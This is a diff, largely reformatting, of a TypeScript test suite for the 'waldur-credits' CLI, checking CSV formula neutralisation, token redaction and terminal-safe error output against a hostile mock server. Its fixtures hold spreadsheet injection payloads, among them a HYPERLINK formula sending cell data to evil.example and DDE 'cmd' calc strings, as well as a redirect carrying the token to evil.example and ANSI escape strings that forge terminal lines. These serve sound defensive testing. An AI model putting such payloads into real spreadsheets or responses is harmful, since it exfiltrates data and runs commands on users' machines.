@@ -42,8 +42,11 @@ interface Ran {
 /** Runs the command as a user does (or a script, with a program of its own); never rejects. */
 function run(args: readonly string[], env: Record<string, string>, cwd = root, program = bin): Promise<Ran> {
   return new Promise((resolve) => {
-    execFile(process.execPath, [program, ...args], { env: { ...cleanEnv, ...env }, cwd, timeout: 30_000, maxBuffer: 16 * 1024 * 1024 }, (error, stdout, stderr) =>
-      resolve({ code: error ? (typeof error.code === 'number' ? error.code : null) : 0, stdout, stderr }),
+    execFile(
+      process.execPath,
+      [program, ...args],
+      { env: { ...cleanEnv, ...env }, cwd, timeout: 30_000, maxBuffer: 16 * 1024 * 1024 },
+      (error, stdout, stderr) => resolve({ code: error ? (typeof error.code === 'number' ? error.code : null) : 0, stdout, stderr }),
     );
   });
 }
@@ -57,7 +60,7 @@ const FORMULAS = {
   equals: '=HYPERLINK("https://evil.example/?"&A1,"Click for details")',
   plus: "+cmd|' /C calc'!A0",
   minus: '-1+1',
-  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  at: "@SUM(1+1)*cmd|' /C calc'!A0",
   tab: '\t=1+1',
   cr: '\r=1+1',
   lf: '\n=1+1',
@@ -118,7 +121,8 @@ describe('safe.ts', { timeout: 30_000 }, () => {
 
   it('neutralise: OWASP’s formula starts (and full-width, small, after blanks) get a leading quote; amounts-like text that is not a formula stays', () => {
     for (const [name, text] of Object.entries(FORMULAS)) expect(neutralise(text), name).toBe(`'${text}`);
-    for (const text of ['Genome assembly', 'Lab; =1+1', "O'Brien", '1500.5', '2027-12-31', 'linear', '', ' ', "'quoted"]) expect(neutralise(text)).toBe(text);
+    for (const text of ['Genome assembly', 'Lab; =1+1', "O'Brien", '1500.5', '2027-12-31', 'linear', '', ' ', "'quoted"])
+      expect(neutralise(text)).toBe(text);
     // A cell already starting with ' that would still be a formula without it gets one more, so that restore can tell.
     expect(neutralise("'=1+1")).toBe("''=1+1");
   });
@@ -126,7 +130,10 @@ describe('safe.ts', { timeout: 30_000 }, () => {
   it('restore is the exact inverse of neutralise, for every text', () => {
     const alphabet = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', '＝', 'a', '1', '\u200b', '\0');
     for (const text of [anyText, fc.string({ unit: alphabet })]) {
-      fc.assert(fc.property(text, (s) => restore(neutralise(s)) === s), { numRuns: 2000 });
+      fc.assert(
+        fc.property(text, (s) => restore(neutralise(s)) === s),
+        { numRuns: 2000 },
+      );
     }
   });
 
@@ -140,13 +147,27 @@ describe('safe.ts', { timeout: 30_000 }, () => {
   });
 
   it('renderTable: a newline in a cell adds no line; CJK and emoji line up by display width', () => {
-    const table = renderTable(['name', 'value'], [[TERMINAL.newline, '1'], [WIDE.cjk, '22'], [WIDE.emoji, '333'], ['plain', '4']], [false, true]);
+    const table = renderTable(
+      ['name', 'value'],
+      [
+        [TERMINAL.newline, '1'],
+        [WIDE.cjk, '22'],
+        [WIDE.emoji, '333'],
+        ['plain', '4'],
+      ],
+      [false, true],
+    );
     const lines = table.trimEnd().split('\n');
     expect(lines).toHaveLength(5);
     const widths = lines.map((l) => stringWidth(l));
     expect(new Set(widths).size).toBe(1);
     // More rows than a call takes arguments (Math.max(...rows) threw "Maximum call stack size exceeded").
-    expect(renderTable(['n'], Array.from({ length: 250_000 }, () => ['x'])).length).toBe(2 * 250_001);
+    expect(
+      renderTable(
+        ['n'],
+        Array.from({ length: 250_000 }, () => ['x']),
+      ).length,
+    ).toBe(2 * 250_001);
   });
 
   it('a change file reads a neutralised text cell back as the server’s text, and amounts as written', async () => {
@@ -193,7 +214,10 @@ describe.runIf(built)('waldur-credits output against a server with hostile names
 
   it('CSV: formula text neutralised and quoted, amounts (a negative one too) and UUIDs exact; --csv-raw-text writes text as sent', async () => {
     const fields = 'uuid,project_name,customer_name,value,consumption_last_month';
-    const [safe, raw] = await Promise.all([run(['export', '--fields', fields], env), run(['list', '--all', '--format', 'csv', '--fields', fields, '--csv-raw-text'], env)]);
+    const [safe, raw] = await Promise.all([
+      run(['export', '--fields', fields], env),
+      run(['list', '--all', '--format', 'csv', '--fields', fields, '--csv-raw-text'], env),
+    ]);
     expect(safe).toMatchObject({ code: 0, stderr: '' });
     const rows = parse<Record<string, string>>(safe.stdout, { columns: true });
     expect(rows).toHaveLength(Object.keys(names).length);
@@ -223,7 +247,10 @@ describe.runIf(built)('waldur-credits output against a server with hostile names
     expect(await run(['export', '--output', file], env)).toMatchObject({ code: 0 });
     const text = readFileSync(file, 'utf8');
     const target = served.fake.credits.find((c) => c.project_name === FORMULAS.equals)!;
-    const edited = text.replace(new RegExp(`^(${target.uuid.replace(/^(.{8})(.{4})(.{4})(.{4})(.{12})$/, '$1-$2-$3-$4-$5')},(?:[^,]*,){4}"[^"]*(?:""[^"]*)*",)1,`, 'm'), '$17.25,');
+    const edited = text.replace(
+      new RegExp(`^(${target.uuid.replace(/^(.{8})(.{4})(.{4})(.{4})(.{12})$/, '$1-$2-$3-$4-$5')},(?:[^,]*,){4}"[^"]*(?:""[^"]*)*",)1,`, 'm'),
+      '$17.25,',
+    );
     expect(edited).not.toBe(text);
     writeFileSync(file, edited);
     const plan = await run(['apply', file], env, work);
@@ -291,7 +318,10 @@ describe.runIf(built)('waldur-credits output against a server with hostile names
   });
 
   it('the plan of apply: a value the server sent with ESC and a newline is shown escaped, one line a field', async () => {
-    const hostile = await startFakeServer({ token: 'plan-token', credits: [{ end_date: '2027-01-01\x1b[2J\nforged → line', minimal_consumption_logic: 'fixed' }] });
+    const hostile = await startFakeServer({
+      token: 'plan-token',
+      credits: [{ end_date: '2027-01-01\x1b[2J\nforged → line', minimal_consumption_logic: 'fixed' }],
+    });
     try {
       const [credit] = hostile.fake.credits;
       const file = join(work, 'plan.csv');
@@ -406,87 +436,91 @@ describe.runIf(built)('waldur-credits output against a server with hostile names
   });
 });
 
-describe.runIf(built)('waldur-credits against a hostile server: stderr never shows the token, nor obeys a message; --timeout', { timeout: 60_000 }, () => {
-  const TOKEN = 'tok_Cli/Redact+0123456789abcdef';
-  const ID = {
-    escaped: '10000000000040008000000000000001',
-    keys: '10000000000040008000000000000002',
-    redirect: '10000000000040008000000000000003',
-    reason: '10000000000040008000000000000004',
-    control: '10000000000040008000000000000006',
-    silent: '10000000000040008000000000000007',
-  };
-  let origin: string;
-  let close: () => Promise<void>;
-  let requests = 0;
+describe.runIf(built)(
+  'waldur-credits against a hostile server: stderr never shows the token, nor obeys a message; --timeout',
+  { timeout: 60_000 },
+  () => {
+    const TOKEN = 'tok_Cli/Redact+0123456789abcdef';
+    const ID = {
+      escaped: '10000000000040008000000000000001',
+      keys: '10000000000040008000000000000002',
+      redirect: '10000000000040008000000000000003',
+      reason: '10000000000040008000000000000004',
+      control: '10000000000040008000000000000006',
+      silent: '10000000000040008000000000000007',
+    };
+    let origin: string;
+    let close: () => Promise<void>;
+    let requests = 0;
 
-  beforeAll(async () => {
-    const server = createServer((req, res) => {
-      requests++;
-      const id = /\/api\/project-credits\/([0-9a-f-]{32,36})\//.exec(req.url ?? '')?.[1]?.replaceAll('-', '');
-      const json = (status: number, body: string, reason?: string) => {
-        res.writeHead(status, reason ?? '', { 'Content-Type': 'application/json' });
-        res.end(body);
-      };
-      switch (id) {
-        case ID.escaped:
-          return json(400, `{"detail": "invalid token ${jsonEscaped(TOKEN)}"}`);
-        case ID.keys:
-          return json(400, `{"${jsonEscaped(TOKEN)}": ["bad"], "value": ["${TOKEN.replace('/', '\\/')} refused"]}`);
-        case ID.redirect:
-          res.writeHead(302, { Location: `https://evil.example/login?token=${percentEncoded(TOKEN)}&again=${TOKEN}` });
-          return res.end();
-        case ID.reason:
-          return json(403, '{}', `Denied for ${TOKEN}`);
-        case ID.control:
-          return json(400, JSON.stringify({ detail: 'bad\x1b[2J\x1b[H\nwaldur-credits get: all good\r\x07 \u202eok' }));
-        case ID.silent:
-          return; // never answers
-        default:
-          return json(404, '{"detail": "Not found."}');
+    beforeAll(async () => {
+      const server = createServer((req, res) => {
+        requests++;
+        const id = /\/api\/project-credits\/([0-9a-f-]{32,36})\//.exec(req.url ?? '')?.[1]?.replaceAll('-', '');
+        const json = (status: number, body: string, reason?: string) => {
+          res.writeHead(status, reason ?? '', { 'Content-Type': 'application/json' });
+          res.end(body);
+        };
+        switch (id) {
+          case ID.escaped:
+            return json(400, `{"detail": "invalid token ${jsonEscaped(TOKEN)}"}`);
+          case ID.keys:
+            return json(400, `{"${jsonEscaped(TOKEN)}": ["bad"], "value": ["${TOKEN.replace('/', '\\/')} refused"]}`);
+          case ID.redirect:
+            res.writeHead(302, { Location: `https://evil.example/login?token=${percentEncoded(TOKEN)}&again=${TOKEN}` });
+            return res.end();
+          case ID.reason:
+            return json(403, '{}', `Denied for ${TOKEN}`);
+          case ID.control:
+            return json(400, JSON.stringify({ detail: 'bad\x1b[2J\x1b[H\nwaldur-credits get: all good\r\x07 \u202eok' }));
+          case ID.silent:
+            return; // never answers
+          default:
+            return json(404, '{"detail": "Not found."}');
+        }
+      });
+      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+      origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+      close = () =>
+        new Promise((resolve) => {
+          server.closeAllConnections();
+          server.close(() => resolve());
+        });
+    });
+    afterAll(() => (close as typeof close | undefined)?.()); // unset if beforeAll failed
+
+    it('the token echoed in \\uXXXX escapes, as a key, in a redirect’s Location, in the reason phrase: one line, exit 1, no token', async () => {
+      const env = { WALDUR_URL: origin, WALDUR_TOKEN: TOKEN };
+      for (const id of [ID.escaped, ID.keys, ID.redirect, ID.reason]) {
+        const out = await run(['get', id], env);
+        expect(out.code, id).toBe(1);
+        expect(out.stdout).toBe('');
+        expect(out.stderr.split('\n')).toHaveLength(2);
+        expect(out.stderr, id).toContain('[redacted]');
+        expect(reveals(out.stderr, TOKEN), out.stderr).toBe(false);
       }
     });
-    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
-    close = () =>
-      new Promise((resolve) => {
-        server.closeAllConnections();
-        server.close(() => resolve());
-      });
-  });
-  afterAll(() => (close as typeof close | undefined)?.()); // unset if beforeAll failed
 
-  it('the token echoed in \\uXXXX escapes, as a key, in a redirect’s Location, in the reason phrase: one line, exit 1, no token', async () => {
-    const env = { WALDUR_URL: origin, WALDUR_TOKEN: TOKEN };
-    for (const id of [ID.escaped, ID.keys, ID.redirect, ID.reason]) {
-      const out = await run(['get', id], env);
-      expect(out.code, id).toBe(1);
-      expect(out.stdout).toBe('');
+    it('a message with ESC, CR, BEL, a newline and a bidi override is one line on stderr, every control shown escaped', async () => {
+      const out = await run(['get', ID.control], { WALDUR_URL: origin, WALDUR_TOKEN: TOKEN });
+      expect(out.code).toBe(1);
       expect(out.stderr.split('\n')).toHaveLength(2);
-      expect(out.stderr, id).toContain('[redacted]');
-      expect(reveals(out.stderr, TOKEN), out.stderr).toBe(false);
-    }
-  });
+      expect(out.stderr).not.toMatch(UNSAFE_FOR_A_TERMINAL);
+      expect(out.stderr).toContain('bad\\x1b[2J\\x1b[H waldur-credits get: all good\\r\\x07 \\u202eok');
+    });
 
-  it('a message with ESC, CR, BEL, a newline and a bidi override is one line on stderr, every control shown escaped', async () => {
-    const out = await run(['get', ID.control], { WALDUR_URL: origin, WALDUR_TOKEN: TOKEN });
-    expect(out.code).toBe(1);
-    expect(out.stderr.split('\n')).toHaveLength(2);
-    expect(out.stderr).not.toMatch(UNSAFE_FOR_A_TERMINAL);
-    expect(out.stderr).toContain('bad\\x1b[2J\\x1b[H waldur-credits get: all good\\r\\x07 \\u202eok');
-  });
-
-  it('--timeout <seconds> bounds each request (a server that never answers ends with exit 1 naming the limit); bad values send nothing', async () => {
-    const env = { WALDUR_URL: origin, WALDUR_TOKEN: TOKEN };
-    const out = await run(['get', ID.silent, '--timeout', '0.3'], env);
-    expect(out.code).toBe(1);
-    expect(out.stderr).toMatch(/^waldur-credits get: WaldurTimeoutError: GET .* timed out after 300 ms; what to do: .*--timeout, in seconds/);
-    const before = requests;
-    const bad = await Promise.all(['0', '-1', 'abc', '1e3', '0.0001', '3000000', ''].map((t) => run(['count', '--timeout', t], env)));
-    for (const r of bad) {
-      expect(r.code).toBe(2);
-      expect(r.stderr).toMatch(/^waldur-credits count: --timeout (must be a number of seconds, more than 0 and at most 2147483|needs a value)/);
-    }
-    expect(requests).toBe(before);
-  });
-});
+    it('--timeout <seconds> bounds each request (a server that never answers ends with exit 1 naming the limit); bad values send nothing', async () => {
+      const env = { WALDUR_URL: origin, WALDUR_TOKEN: TOKEN };
+      const out = await run(['get', ID.silent, '--timeout', '0.3'], env);
+      expect(out.code).toBe(1);
+      expect(out.stderr).toMatch(/^waldur-credits get: WaldurTimeoutError: GET .* timed out after 300 ms; what to do: .*--timeout, in seconds/);
+      const before = requests;
+      const bad = await Promise.all(['0', '-1', 'abc', '1e3', '0.0001', '3000000', ''].map((t) => run(['count', '--timeout', t], env)));
+      for (const r of bad) {
+        expect(r.code).toBe(2);
+        expect(r.stderr).toMatch(/^waldur-credits count: --timeout (must be a number of seconds, more than 0 and at most 2147483|needs a value)/);
+      }
+      expect(requests).toBe(before);
+    });
+  },
+);
